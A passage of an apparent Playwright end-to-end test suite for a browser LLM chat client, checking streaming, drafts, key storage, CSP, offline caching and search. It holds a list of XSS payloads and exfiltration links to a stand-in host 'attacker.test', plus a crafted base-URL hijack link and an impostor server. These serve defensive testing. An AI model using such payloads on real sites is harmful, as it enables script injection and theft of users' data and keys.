  await scriptedProvider(page, 'b22', [{ body: openaiStream({ text: longText, pieces: 200 }), chunk_bytes: 300, delay_ms: 20 }]);
  await person(page).send('Stream while I wander');
  await page.waitForSelector('[data-testid=message][data-streaming=true]', { timeout: 10_000 });
  const streaming = await openChatId(page);
  for (let i = 0; i < 100; i += 1) {
    await page.click(`[data-testid=chat-item][data-chat-id="${i % 2 ? streaming : other}"]`);
  }
  await showing(page, streaming, 0);
  await page.click(`[data-testid=chat-item][data-chat-id="${other}"]`);
  await showing(page, other);
  const otherView = await page.locator('[data-testid=message]').allTextContents();
  await page.click(`[data-testid=chat-item][data-chat-id="${streaming}"]`);
  await showing(page, streaming, 0);
  await waitIdle(page, 1, 20_000);
  const streamedView = await page.locator('[data-testid=message]').allTextContents();
  // No flush first: what a person sees finished is stored (a reload right after loses nothing).
  await page.reload();
  await openChat(page, other);
  await showing(page, other);
  const otherFresh = await page.locator('[data-testid=message]').allTextContents();
  await openChat(page, streaming);
  await showing(page, streaming, 2).catch(() => {});
  const streamedFresh = await page.locator('[data-testid=message]').allTextContents();
  check(JSON.stringify(otherView) === JSON.stringify(otherFresh) && JSON.stringify(streamedView) === JSON.stringify(streamedFresh),
    `B22: after 100 chat switches during a stream, both views equal a fresh load (${otherView.length} and ${streamedView.length} messages)`)
    || console.log(JSON.stringify({ otherView, otherFresh, streamedView: streamedView.map((t) => t.slice(-80)), streamedFresh: streamedFresh.map((t) => t.slice(-80)) }).slice(0, 3000));
  check(streamedView.at(-1).includes('word399'), 'and the stream finished in its own chat');
}

async function draftSurvivesReload(page) {
  await page.fill('[data-testid=composer]', 'half-written thought');
  const chatId = await openChatId(page);
  await page.reload();
  await openChat(page, chatId);
  await page.waitForFunction(() => document.getElementById('composer').value.length > 0, null, { timeout: 5_000 }).catch(() => {});
  check((await page.inputValue('[data-testid=composer]')) === 'half-written thought', 'a draft survives reload');
  // Typed the moment New chat is clicked, as fast as a person's next key: the words are for the
  // new chat, and the chat left keeps its own draft.
  await page.click('[data-testid=new-chat]');
  await page.fill('[data-testid=composer]', 'typed during the switch');
  await page.waitForFunction((id) => {
    const open = document.querySelector('[data-testid=chat-item][aria-current=true]')?.dataset.chatId;
    return open && open !== id;
  }, chatId);
  const kept = await page.inputValue('[data-testid=composer]');
  await openChat(page, chatId);
  const left = await page.inputValue('[data-testid=composer]');
  check(kept === 'typed during the switch' && left === 'half-written thought', `text typed while a chat opens stays in the composer; the chat left keeps its draft (${kept}; ${left})`);
  await page.fill('[data-testid=composer]', '');
}

const HOSTILE = [
  '<script>window.__xss = 1</script>',
  '[click](javascript:window.__xss=2) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:x) [e](&#106;avascript:window.__xss=3)',
  '![track](http://attacker.test/log?d=SECRET) ![ref][r]',
  '[r]: https://attacker.test/ref?d=SECRET',
  '<img src=http://attacker.test/raw> <img src=x onerror="window.__xss=4"> <svg onload="window.__xss=5"></svg>',
  '<a ping=http://attacker.test/ping href=https://example.com>p</a> <div style="background:url(http://attacker.test/css)">s</div>',
  '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe> <meta http-equiv=refresh content="0;url=http://attacker.test/meta"> <base href=http://attacker.test/>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=7">',
  '<http://attacker.test/autolink?d=SECRET> https://attacker.test/bare?d=SECRET',
  '```html',
  `<img src=x onerror="window.__xss=8">${'x'.repeat(1_000_000)}`,
  '```',
].join('\n\n');

async function hostileOutput(page) {
  await page.click('[data-testid=new-chat]');
  await scriptedProvider(page, 'hostile', [{ body: openaiStream({ text: HOSTILE, pieces: 60 }), chunk_bytes: 20_000, delay_ms: 5 }]);
  const before = attacker.hits.length;
  // C6: every intermediate frame, not only the last, is checked as the stream renders.
  await page.evaluate(() => {
    globalThis.__unsafeSeen = [];
    const unsafe = (node) => {
      if (node.nodeType !== 1) return;
      for (const el of [node, ...node.querySelectorAll('*')]) {
        if (['SCRIPT', 'IMG', 'IFRAME', 'SVG', 'STYLE', 'META', 'BASE', 'LINK', 'OBJECT', 'EMBED', 'FORM'].includes(el.tagName.toUpperCase())) globalThis.__unsafeSeen.push(el.tagName);
        for (const attr of el.attributes) {
          if (attr.name.startsWith('on') || (attr.name === 'href' && !/^(https?:|mailto:)/i.test(attr.value.trim()))) globalThis.__unsafeSeen.push(`${attr.name}=${attr.value}`);
        }
      }
    };
    new MutationObserver((records) => records.forEach((r) => r.addedNodes.forEach(unsafe))).observe(document.getElementById('transcript'), { childList: true, subtree: true });
  });
  await page.fill('[data-testid=composer]', 'Say something nasty');
  await page.click('[data-testid=send]');
  await waitIdle(page, 1, 30_000);
  const start = Date.now();
  await page.evaluate(() => 1);
  check(Date.now() - start < 1000, `the page stays responsive after a 1 MB code block (${Date.now() - start} ms for a round trip)`);
  await page.waitForTimeout(500);
  check(await page.evaluate(() => globalThis.__xss) === undefined, 'hostile output executed nothing (window.__xss unset)');
  const unsafe = await page.evaluate(() => {
    const bad = [];
    for (const node of document.querySelectorAll('#transcript *')) {
      for (const attr of node.attributes) {
        const value = attr.value.trim().toLowerCase();
        if (attr.name.startsWith('on') || attr.name === 'style' || attr.name === 'srcdoc' || attr.name === 'ping' ||
          (['href', 'src', 'action', 'poster', 'srcset', 'formaction'].includes(attr.name) && !/^(https?:|mailto:)/.test(value))) bad.push(`${node.tagName} ${attr.name}=${attr.value.slice(0, 40)}`);
      }
      if (['SCRIPT', 'IMG', 'IFRAME', 'SVG', 'STYLE', 'META', 'BASE', 'LINK', 'OBJECT', 'EMBED', 'FORM', 'VIDEO', 'PICTURE'].includes(node.tagName.toUpperCase())) bad.push(node.tagName);
    }
    return bad;
  });
  check(unsafe.length === 0, `C20: no unsafe element or attribute in the rendered transcript (${unsafe.slice(0, 5).join('; ')})`);
  check(await page.locator('#transcript .remote-image').count() >= 2, 'remote images are click-to-load placeholders');
  check(attacker.hits.length === before, `nothing reached the attacker (${attacker.hits.slice(before).join(', ')})`);
  check(await page.locator('#transcript pre code').count() >= 1, 'the 1 MB code block is shown as code');
  const seen = await page.evaluate(() => globalThis.__unsafeSeen);
  check(seen.length === 0, `C6: no frame of the stream ever held an unsafe element or link (${seen.slice(0, 5).join('; ')})`);
}

async function cspAndTrustedTypes(page) {
  const before = attacker.hits.length;
  await context.route('**/__csp-probe.js', (route) => route.fulfill({
    contentType: 'text/javascript',
    body: "let outcome; try { eval('1'); outcome = 'ran'; } catch (e) { outcome = e.name; } export const evalOutcome = outcome;",
  }));
  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const outcome = {};
    try {
      document.body.insertAdjacentHTML('beforeend', '<img src=https://attacker.test/x>');
      outcome.insertAdjacentHTML = 'allowed';
    } catch (e) {
      outcome.insertAdjacentHTML = e.name;
    }
    const img = document.createElement('img');
    img.src = 'https://attacker.test/img';
    document.body.append(img);
    // Code evaluated by the test harness is exempt from CSP; code the page loads is not.
    outcome.eval = (await import('/__csp-probe.js')).evalOutcome;
    try {
      await fetch('http://attacker.test/plain-http');
      outcome.fetch = 'sent';
    } catch (e) {
      outcome.fetch = e.name;
    }
    try {
      document.getElementById('status').innerHTML = '<b>sink</b>';
      outcome.innerHTML = 'allowed';
    } catch (e) {
      outcome.innerHTML = e.name;
    }
    try {
      trustedTypes.createPolicy('other', { createHTML: (s) => s });
      outcome.policy = 'created';
    } catch (e) {
      outcome.policy = e.name;
    }
    outcome.wasm = typeof (await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).instance;
    await new Promise((r) => setTimeout(r, 300));
    img.remove();
    outcome.violations = violations;
    return outcome;
  });
  check(result.violations.includes('img-src'), `C11: a remote <img> is refused (img-src) (${result.violations.join(', ')})`);
  check(result.eval === 'EvalError' && result.violations.some((v) => v.startsWith('script-src') || v === 'require-trusted-types-for'), `C11: eval in page code is refused by the policy (${result.eval}; Trusted Types reports it before script-src)`);
  check(result.fetch === 'TypeError' && result.violations.includes('connect-src'), `C11: fetch to a plain-http foreign host is refused (${result.fetch}); https: stays open for user-configured providers, as the issue requires`);
  check(result.wasm === 'object', 'C11: WebAssembly still instantiates (wasm-unsafe-eval)');
  check(result.insertAdjacentHTML === 'TypeError' && result.innerHTML === 'TypeError', `C19: HTML sinks outside the renderer's policy throw (${result.insertAdjacentHTML}, ${result.innerHTML})`);
  check(result.policy === 'TypeError', `C19: no other Trusted Types policy can be made (${result.policy})`);
  check(attacker.hits.length === before, `no request reached the attacker (${attacker.hits.slice(before).join(', ')})`);
}

/**
 * E1 (issue 13): with a remembered key, a link `#provider=…&base_url=https://attacker…` changed
 * the saved base URL and the next message sent the key and the conversation there. Now a link
 * only proposes: nothing is saved, the key stays bound to the origin it was given for.
 */
async function linkHijack(page) {
  const good = `${double.url}/wire/openai-chat/text_gpt4o`;
  await page.click('[data-testid=new-chat]');
  await setProvider(page, { baseUrl: good, key: CANARY, remember: true });
  const evil = 'https://attacker.test/v1';
  await page.goto('about:blank');
  await page.goto(`${serve.origin}/#provider=openai-chat&base_url=${encodeURIComponent(evil)}&model=gpt-4o`);
  await page.waitForURL((url) => !url.href.includes('#'), { timeout: 5_000 }).catch(() => {});
  const saved = await page.evaluate(() => JSON.parse(localStorage.getItem('palaver.settings')).providers['openai-chat'].base_url);
  check(saved === good, `E1: a link does not change the saved base URL (${saved})`);
  const before = requests.length;
  // The reload reopens the chat that was open; the new one must be the one shown before sending.
  await page.click('[data-testid=new-chat]');
  await sendAndWait(page, 'After the link', 1);
  const sent = requests.slice(before).filter((r) => r.method() === 'POST' && !r.url().startsWith(serve.origin));
  check(sent.length > 0 && sent.every((r) => r.url().startsWith(double.url)), `E1: the next message still goes to the provider the user saved (${sent.map((r) => r.url()).join(', ')})`);
  check(!requests.some((r) => r.url().includes('attacker.test/v1')), 'E1: nothing was sent to the linked host');
  // The proposal shows in the form, named, with the key withheld.
  await person(page).openSettings('provider');
  // The remembered key is unlocked a moment after the page shows; the note about it then appears.
  await page.getByTestId('key-note').waitFor({ timeout: 5_000 }).catch(() => {});
  const form = await page.evaluate(() => ({
    base: document.getElementById('provider-base-url').value,
    key: document.getElementById('provider-key').value,
    notice: document.querySelector('[data-testid=proposal-notice]').hidden ? '' : document.querySelector('[data-testid=proposal-notice]').textContent,
    note: document.querySelector('[data-testid=key-note]').hidden ? '' : document.querySelector('[data-testid=key-note]').textContent,
  }));
  check(form.base === evil && form.notice.includes('https://attacker.test') && form.key === '' && form.note.includes('not sent'),
    `E1: the form shows the proposal and its host, and withholds the key (${JSON.stringify(form)})`);
  // Saving it without typing a key: requests go there (the user chose it), the key does not.
  await page.click('[data-testid=save-settings]');
  await page.getByTestId('settings-dialog').waitFor({ state: 'hidden' });
  await page.click('[data-testid=new-chat]');
  const toEvil = page.waitForRequest((r) => r.url().startsWith(evil), { timeout: 10_000 });
  await page.fill('[data-testid=composer]', 'to the new host');
  await page.click('[data-testid=send]');
  const request = await toEvil;
  const headers = await request.allHeaders().catch(() => request.headers());
  check(!JSON.stringify(headers).includes(CANARY), 'E1: a key given for one origin is never sent to another');
  await page.getByTestId('send').waitFor({ timeout: 15_000 }).catch(() => {});
  // Back to the provider the key was given for: it is used again without retyping.
  await person(page).openSettings('provider');
  await page.fill('[data-testid=provider-base-url]', good);
  await page.dispatchEvent('[data-testid=provider-base-url]', 'input');
  check((await page.inputValue('[data-testid=provider-key]')) === CANARY, 'E1: the key shows again for its own origin');
  await page.setChecked('[data-testid=remember-key]', false);
  await page.click('[data-testid=save-settings]');
  await page.getByTestId('settings-dialog').waitFor({ state: 'hidden' });
}

async function keys(page) {
  // C13/C14: the canary went to the provider double only, in its auth header.
  const leaks = [];
  for (const request of requests) {
    const url = request.url();
    const headers = await request.allHeaders().catch(() => request.headers());
    const body = request.postData() ?? '';
    const toProvider = url.startsWith(double.url);
    const inHeaders = Object.entries(headers).filter(([, v]) => v.includes(CANARY)).map(([k]) => k);
    if (url.includes(CANARY) || body.includes(CANARY)) leaks.push(`${url} (url/body)`);
    if (inHeaders.length && !(toProvider && inHeaders.every((h) => ['authorization', 'x-api-key', 'x-goog-api-key'].includes(h)))) leaks.push(`${url} headers ${inHeaders}`);
  }
  check(requests.some((r) => r.url().startsWith(double.url) && (r.headers().authorization ?? '').includes(CANARY)), 'C13: the key reached the provider in its Authorization header');
  check(leaks.length === 0, `C13: the key appears nowhere else: no URL, body, proxy or attacker request (${leaks.join('; ')})`);
  const exported = await page.evaluate(async () => {
    // Every chat's export, straight from the engine (an assertion on what is stored, not a wait).
    const palaver = await globalThis.palaverApp.engine();
    const chats = await palaver.listChats();
    const out = [];
    for (const c of chats) out.push(await palaver.exportChat(c.id, 'refact'), await palaver.exportChat(c.id, 'markdown'));
    return out.join('\n');
  });
  check(!exported.includes(CANARY), 'C14: exports do not hold the key');
  check(!consoleLines.join('\n').includes(CANARY) && !pageErrors.join('\n').includes(CANARY), 'C14: nor does the console');
  const dump = () => page.evaluate(async () => {
    const out = [JSON.stringify(localStorage)];
    for (const info of await indexedDB.databases()) {
      const db = await new Promise((ok, fail) => {
        const r = indexedDB.open(info.name);
        r.onsuccess = () => ok(r.result);
        r.onerror = () => fail(r.error);
      });
      for (const name of db.objectStoreNames) {
        const all = await new Promise((ok) => {
          const r = db.transaction(name).objectStore(name).getAll();
          r.onsuccess = () => ok(r.result);
        });
        out.push(JSON.stringify(all, (k, v) => (v instanceof CryptoKey ? `CryptoKey(extractable=${v.extractable})` : ArrayBuffer.isView(v) || v instanceof ArrayBuffer ? `bytes(${v.byteLength})` : v)));
      }
      db.close();
    }
    return out.join('\n');
  });
  check(!(await dump()).includes(CANARY), 'C14/C16: no trajectory, IndexedDB or localStorage record holds the key');
  await page.reload();
  await person(page).openSettings('provider');
  check((await page.inputValue('[data-testid=provider-key]')) === '', 'C16: "remember key" off → after a reload the key is gone');
  await page.click('[data-testid=cancel-settings]');

  // C17: remembered, the key is ciphertext under a non-extractable CryptoKey.
  await setProvider(page, { baseUrl: `${double.url}/wire/openai-chat/text_gpt4o`, key: CANARY, remember: true });
  // Stored just after Settings close (an assertion on storage: it may take a moment to be there).
  let stored = await dump();
  for (let i = 0; i < 50 && !/bytes\(\d+\)/.test(stored); i += 1) stored = await new Promise((r) => setTimeout(r, 100)).then(dump);
  check(!stored.includes(CANARY) && stored.includes('CryptoKey(extractable=false)') && /bytes\(\d+\)/.test(stored), 'C17: IndexedDB holds ciphertext and a non-extractable key only');
  const exportable = await page.evaluate(async () => {
    const db = await new Promise((ok) => {
      const r = indexedDB.open('palaver-vault');
      r.onsuccess = () => ok(r.result);
    });
    const key = await new Promise((ok) => {
      const r = db.transaction('keys').objectStore('keys').get('wrapping-key');
      r.onsuccess = () => ok(r.result);
    });
    db.close();
    return crypto.subtle.exportKey('raw', key).then(() => 'exported', (e) => e.name);
  });
  check(exportable === 'InvalidAccessError', `C17: exportKey on the wrapping key rejects (${exportable})`);
  await page.reload();
  await person(page).openSettings('provider');
  // The key is unlocked a moment after the page shows: a person sees it appear in the field.
  await page.waitForFunction((key) => document.getElementById('provider-key').value === key, CANARY, { timeout: 5_000 }).catch(() => {});
  check((await page.inputValue('[data-testid=provider-key]')) === CANARY, 'C17: remembered, the key comes back after a reload');
  await page.setChecked('[data-testid=remember-key]', false);
  await page.click('[data-testid=save-settings]');
  let left = await dump();
  for (let i = 0; i < 50 && left.includes('bytes('); i += 1) left = await new Promise((r) => setTimeout(r, 100)).then(dump);
  check(!left.includes('bytes('), 'unticking "remember" deletes the stored ciphertext');

  // C15: Gemini gets its key in x-goog-api-key, never in the URL.
  await page.click('[data-testid=new-chat]');
  await setProvider(page, { kind: 'gemini', baseUrl: `${double.url}/wire/gemini/text`, model: 'gemini-test', key: CANARY });
  await sendAndWait(page, 'Hello Gemini', 1);
  const gemini = (await double.log('wire')).filter((e) => e.path.includes('/wire/gemini/'));
  // Every request to Gemini (the model's details and the answer) carries the key the same way.
  const keyed = gemini.every((e) => e.headers['x-goog-api-key'] === CANARY && !e.path.includes('key='));
  check(gemini.some((e) => e.path.includes('GenerateContent')) && keyed, `C15: Gemini's key in x-goog-api-key, not in the URL (${gemini.map((e) => e.path).join(', ')})`);
  await person(page).openSettings('provider');
  await page.selectOption('[data-testid=provider-kind]', 'openai-chat');
  const kept = [await page.inputValue('[data-testid=provider-base-url]'), await page.inputValue('[data-testid=provider-key]')];
  check(kept[0].endsWith('/wire/openai-chat/text_gpt4o') && kept[1] === CANARY, 'each provider kind keeps its own URL, model and key');
  await page.click('[data-testid=cancel-settings]');
}

async function twoTabs(page) {
  await page.click('[data-testid=new-chat]');
  await setProvider(page, { baseUrl: `${double.url}/wire/openai-chat/text_gpt4o`, key: CANARY });
  await sendAndWait(page, 'From tab one', 1);
  const chatId = await openChatId(page);
  const other = await newPage();
  await other.goto(serve.origin);
  await other.click(`[data-testid=chat-item][data-chat-id="${chatId}"]`);
  await other.waitForSelector('[data-testid=message][data-role=assistant]');
  check(JSON.stringify(await assistantTexts(other)) === JSON.stringify(await assistantTexts(page)), 'a second tab shows the same chat');
  // The second tab has its own memory: it needs the key too (never shared through storage).
  await setProvider(other, { baseUrl: `${double.url}/wire/openai-chat/text_gpt4o`, key: CANARY });
  await other.click(`[data-testid=chat-item][data-chat-id="${chatId}"]`);
  await sendAndWait(other, 'From tab two', 2);
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=message][data-role=user]').length === 2, null, { timeout: 10_000 });
  await waitIdle(page, 2);
  const a = await page.locator('[data-testid=message]').allTextContents();
  const b = await other.locator('[data-testid=message]').allTextContents();
  check(a.length === 4 && JSON.stringify(a) === JSON.stringify(b), `two tabs on one chat stay consistent (${a.length} and ${b.length} messages)`);
  await other.close();
}

async function offline(page) {
  // What a person sees: the page says when it can be used offline.
  await person(page).see('offline-ready', 20_000);
  const chats = await chatCount(page);
  // A navigation elsewhere on the origin is not the app: it never replaces the offline app.
  await page.goto(`${serve.origin}/icon.svg`);
  await page.goto(serve.origin);
  serve.child.kill();
  await new Promise((r) => serve.child.once('exit', r));
  // F7: with palaver serve stopped, another program answers on the app's port. The page that
  // opens is still the app (from the checked cache), never the impostor's.
  const impostor = createServer((req, res) => {
    res.writeHead(200, { 'content-type': req.url.endsWith('.js') ? 'text/javascript' : 'text/html' });
    res.end(req.url.endsWith('.js') ? 'document.title = "impostor script";' : '<!doctype html><title>impostor</title><p data-testid="impostor">planted</p>');
  });
  await new Promise((ok) => impostor.listen(Number(new URL(serve.origin).port), '127.0.0.1', ok));
  await page.reload();
  await page.locator('[data-testid=chat-item]').nth(chats - 1).waitFor({ timeout: 10_000 }).catch(() => {});
  const shown = { title: await page.title(), planted: await page.getByTestId('impostor').count(), chats: await chatCount(page) };
  check(shown.planted === 0 && !/impostor/.test(shown.title) && shown.chats === chats, `F7: another server on the app's port gets no page at the app's origin: the cached app opens (${JSON.stringify(shown)})`);
  // The same through a link with a query (the browser's own routes to the cache must not send it
  // to the port's answer).
  await page.goto(`${serve.origin}/?from=link`);
  await page.locator('[data-testid=chat-item]').nth(chats - 1).waitFor({ timeout: 10_000 }).catch(() => {});
  const linked = { title: await page.title(), planted: await page.getByTestId('impostor').count(), chats: await chatCount(page) };
  check(linked.planted === 0 && !/impostor/.test(linked.title) && linked.chats === chats, `F7: a link to the app with a query opens the cached app too (${JSON.stringify(linked)})`);
  // The page keeps asking the port (health checks on kept-alive connections): cut them, or
  // close() waits for them for ever.
  const closed = new Promise((ok) => impostor.close(ok));
  impostor.closeAllConnections();
  await closed;
  await context.setOffline(true);
  await page.reload();
  await page.locator('[data-testid=chat-item]').nth(chats - 1).waitFor({ timeout: 10_000 }).catch(() => {});
  const listed = await chatCount(page);
  check(listed === chats, `offline, the app opens from its cache and lists the ${chats} past chats (${listed})`);
  const last = page.locator('[data-testid=chat-item]').last();
  const id = await last.getAttribute('data-chat-id');
  await last.click();
  await page.waitForFunction((chat) => document.querySelector('[data-testid=chat-item][aria-current=true]')?.dataset.chatId === chat && document.querySelector('[data-testid=message][data-role=assistant]'), id, { timeout: 10_000 }).catch(() => {});
  check(await page.locator('[data-testid=message]').count() > 0, 'and a past chat is readable');
  await context.setOffline(false);
}

/** Issue 20: a long chat draws its last screen from storage at once (marked as loading the
 *  rest), then the engine's whole chat replaces it; early removals survive a reload in order. */
async function longChat(page) {
  const messages = Array.from({ length: 600 }, (_, i) => ({ role: i % 2 ? 'assistant' : 'user', content: `long chat message ${i}` }));
  const id = await importFile(page, JSON.stringify(messages), 'long.json');
  await page.click('[data-testid=new-chat]');
  await page.waitForFunction((long) => document.querySelector('[data-testid=chat-item][aria-current=true]')?.dataset.chatId !== long, id);
  await page.reload();
  const item = page.locator(`[data-testid=chat-item][data-chat-id="${id}"]`);
  await item.waitFor();
  await page.evaluate(() => {
    globalThis.__frames = [];
    new MutationObserver(() => {
      const loading = document.querySelector('[data-testid=loading-earlier]');
      const last = [...document.querySelectorAll('[data-testid=message]')].pop();
      globalThis.__frames.push({ loading: loading?.textContent ?? null, last: last?.textContent ?? null });
    }).observe(document.getElementById('transcript'), { childList: true, subtree: true });
  });
  await item.click();
  await page.getByTestId('show-earlier').waitFor();
  const first = (await page.evaluate(() => globalThis.__frames)).find((n) => n.last !== null);
  check(/Loading 560 earlier messages/.test(first?.loading ?? '') && first.last.includes('long chat message 599'),
    `the first frame is the stored last screen, loading the rest (${JSON.stringify(first)})`);
  check(await page.locator('[data-testid=loading-earlier]').count() === 0 && await page.locator('[data-testid=show-earlier]').count() === 1,
    'then the whole chat replaces it (earlier messages behind "show earlier")');
  const you = person(page);
  const drawn = () => page.locator('[data-testid=message]').count();
  check(await drawn() <= 60, `only a window of the chat is in the page (${await drawn()} of 600 messages)`);
  // Jump to the first message: one click, the chat's start on screen, still a window.
  await you.click('jump-first');
  const firstShown = page.locator('[data-testid=message]').filter({ hasText: /^long chat message 0(?!\d)/ });
  await firstShown.waitFor();
  check(await firstShown.isVisible() && await drawn() <= 60 && await page.getByTestId('jump-last').isVisible(),
    `"Jump to the first message" shows message 0 (${await drawn()} messages in the page; "Jump to the last message" offered)`);
  await inThemes(page, 'a long chat at its first message', 'long-chat-first');
  // Scrolling to the window's end draws the next messages, where the person was reading.
  await page.locator('#transcript').hover();
  const before = await page.evaluate(() => Number([...document.querySelectorAll('[data-testid=message]')].pop().dataset.index));
  for (let i = 0; i < 40 && await page.evaluate((n) => Number([...document.querySelectorAll('[data-testid=message]')].pop().dataset.index) <= n, before); i += 1) {
    await page.mouse.wheel(0, 4000);
    await page.waitForTimeout(100);
  }
  const after = await page.evaluate(() => Number([...document.querySelectorAll('[data-testid=message]')].pop().dataset.index));
  check(after > before && await drawn() <= 60, `scrolling down past the window's end draws later messages (last drawn ${before} → ${after}, ${await drawn()} in the page)`);
  await you.click('jump-first');
  await firstShown.waitFor();
  // Deleted as a person does: message 5's Delete, then message 3's.
  for (const text of ['long chat message 5', 'long chat message 3']) {
    await page.locator('[data-testid=message]').filter({ hasText: new RegExp(`^${text}(?!\\d)`) }).getByTestId('delete-message').click();
    await page.locator('[data-testid=message]').filter({ hasText: new RegExp(`^${text}(?!\\d)`) }).waitFor({ state: 'detached' });
  }
  // "Latest message" floats over the transcript while the end is out of sight.
  await you.click('to-latest');
  await page.locator('[data-testid=message]').filter({ hasText: /^long chat message 599/ }).waitFor();
  check(await page.locator('[data-testid=message]').filter({ hasText: /^long chat message 599/ }).isVisible() && await page.getByTestId('to-latest').isHidden(),
    '"Latest message" shows the last message, and goes away there');
  // Read at its end, the chat reopens at its end, even in a narrower window (its messages taller).
  const wide = page.viewportSize();
  await page.setViewportSize({ width: 700, height: wide.height });
  await page.reload();
  await openChat(page, id);
  await page.getByTestId('show-earlier').waitFor();
  const lastOne = page.locator('[data-testid=message]').filter({ hasText: /^long chat message 599/ });
  await lastOne.waitFor({ timeout: 5000 }).catch(() => {});
  await page.waitForTimeout(200);
  check(await lastOne.isVisible() && await page.getByTestId('to-latest').isHidden(), 'a chat read at its end reopens at its end after a reload, in a narrower window too');
  await page.setViewportSize(wide);
  // Each message's words as shown, without its buttons, window after window from the first.
  const shownTexts = async () => {
    await you.click('jump-first');
    await firstShown.waitFor();
    const shown = new Map();
    const collect = async () => {
      for (const [index, text] of await page.locator('[data-testid=message]').evaluateAll((nodes) => nodes.map((node) => {
        const copy = node.cloneNode(true);
        copy.querySelectorAll('.actions').forEach((a) => a.remove());
        return [Number(node.dataset.index), copy.textContent.trim()];
      }))) shown.set(index, text);
    };
    await collect();
    while (await page.getByTestId('show-later').isVisible()) {
      const last = await page.evaluate(() => [...document.querySelectorAll('[data-testid=message]')].pop().dataset.index);
      await you.click('show-later');
      await page.waitForFunction((n) => [...document.querySelectorAll('[data-testid=message]')].pop().dataset.index !== n, last);
      await collect();
    }
    return [...shown.keys()].sort((a, b) => a - b).map((k) => shown.get(k));
  };
  const texts = await shownTexts();
  const expected = messages.map((m) => m.content).filter((_, i) => i !== 3 && i !== 5);
  check(JSON.stringify(texts) === JSON.stringify(expected), `early removals are kept in order after a reload (${texts.length} messages, [2..4] = ${JSON.stringify(texts.slice(2, 4))})`);
  // Sending while far back: the view follows your own message to the chat's end.
  await you.click('jump-first');
  await firstShown.waitFor();
  await you.send('follow me to the end');
  const mine = page.locator('[data-testid=message][data-role=user]').filter({ hasText: 'follow me to the end' });
  await mine.waitFor();
  const inPane = await mine.evaluate((node) => {
    const pane = document.getElementById('transcript').getBoundingClientRect();
    const box = node.getBoundingClientRect();
    return box.top >= pane.top - 1 && box.bottom <= pane.bottom + 1;
  });
  check(inPane, 'a message sent while reading the chat’s start is shown where it went, at the end');
  await you.waitAnswers(1, 30_000).catch(() => {});
  // The page holds a long chat's last messages whole; those a new message pushes out of them go
  // light and are made whole again when drawn: every earlier message still reads as it did.
  const later = await shownTexts();
  check(JSON.stringify(later.slice(0, expected.length)) === JSON.stringify(expected) && later.includes('follow me to the end'),
    `after new messages, every earlier message still shows its words (${later.length} messages; [297..300] = ${JSON.stringify(later.slice(297, 300))})`);
}

/**
 * Search inside messages (issue 38): words typed in the sidebar's search box find a message deep
 * in a long chat (past the transcript's first screen); its hit names the chat and the line, and a
 * click opens the chat at that message.
 */
async function searchInMessages(page) {
  const you = person(page);
  const messages = Array.from({ length: 450 }, (_, i) => ({ role: i % 2 ? 'assistant' : 'user', content: i === 10 ? 'First a note.\nA purple zebra sleeps under the old bridge.' : `searchable message ${i}` }));
  const id = await importFile(page, JSON.stringify(messages), 'zebra.json');
  await you.click('new-chat');
  await you.type('chat-search', 'zebra BRIDGE');
  const hit = page.getByTestId('message-hit');
  await hit.first().waitFor({ timeout: 10_000 }).catch(() => {});
  const hits = await hit.allInnerTexts();
  check(hits.length === 1 && /A purple zebra sleeps under the old bridge\./.test(hits[0]) && await hit.first().getAttribute('data-chat-id') === id,
    `the search box finds the words inside a message, with its line (${JSON.stringify(hits)})`);
  await inThemes(page, 'search inside messages', 'message-hits');
  await you.click(hit.first());
  // What a person sees: the message, inside the transcript's visible pane.
  const inView = await page.waitForFunction(() => {
    const node = [...document.querySelectorAll('[data-testid=message]')].find((n) => n.textContent.includes('A purple zebra sleeps'));
    const pane = document.getElementById('transcript').getBoundingClientRect();
    const box = node?.getBoundingClientRect();
    return Boolean(box) && box.top >= pane.top && box.bottom <= pane.bottom;
  }, null, { timeout: 10_000 }).then(() => true, () => false);
  const header = await page.locator('#chat-title').innerText();
  check(header === 'searchable message 0' && inView, `a click opens the chat at that message, on screen (message 10 of 450 of "${header}")`);
  if (process.env.PALAVER_SHOTS) await page.screenshot({ path: join(process.env.PALAVER_SHOTS, 'search-messages.png') });
  await you.type('chat-search', 'zebra giraffe');
  await page.getByTestId('message-hits').filter({ hasText: 'No message holds' }).waitFor({ timeout: 10_000 }).catch(() => {});
  check(/No message holds “zebra giraffe”/.test(await page.getByTestId('message-hits').innerText()), 'words no message holds say so');
  await you.type('chat-search', '');
  await page.getByTestId('message-hits').waitFor({ state: 'hidden', timeout: 10_000 }).catch(() => {});
  check(await page.getByTestId('message-hits').isHidden(), 'an empty search box shows no hits');
}

try {
  const page = await newPage();
  for (const [name, run] of [['newcomer', newcomer], ['fragment', fragmentPrefill], ['tools', toolTurns], ['revert one file', revertOneFile], ['stop/queue/regenerate/edit/branch', stopQueueRegenerate],
    ['plan, ask-user, steer now', planAskAndSteer], ['error and retry', errorAndRetry], ['selection kept', selectionKept], ['export/import/delete', exportImportDelete], ['b22 navigation', b22Navigation], ['draft', draftSurvivesReload], ['hostile output', hostileOutput], ['csp', cspAndTrustedTypes], ['keys', keys], ['e1 link hijack', linkHijack], ['two tabs', twoTabs], ['long chat', longChat], ['search in messages', searchInMessages], ['offline', offline]]) {
    // PALAVER_SECTIONS='a;b' runs the newcomer's path and only those sections (while developing).
    if (process.env.PALAVER_SECTIONS && name !== 'newcomer' && !process.env.PALAVER_SECTIONS.split(';').includes(name)) continue;
    console.log(`-- ${name}`);
    try {
      await run(page);
    } catch (error) {
      check(false, `${name}: ${error.message.split('\n')[0]}`);
      if (process.env.PALAVER_SHOTS) console.log(error.message.split('\n').slice(0, 12).join('\n'));
      if (process.env.PALAVER_SHOTS) await page.screenshot({ path: `${process.env.PALAVER_SHOTS}/failed-${name.replace(/\W+/g, '-')}.png` }).catch(() => {});
    }
  }
  check(pageErrors.length === 0, `no page errors (${pageErrors.join('; ')})`);
  const offMachine = requests.map((r) => r.url()).filter((u) => !/^(http:\/\/127\.0\.0\.1|data:|blob:|chrome)/.test(u) && !u.startsWith('http://attacker.test') && !u.startsWith('https://attacker.test'));
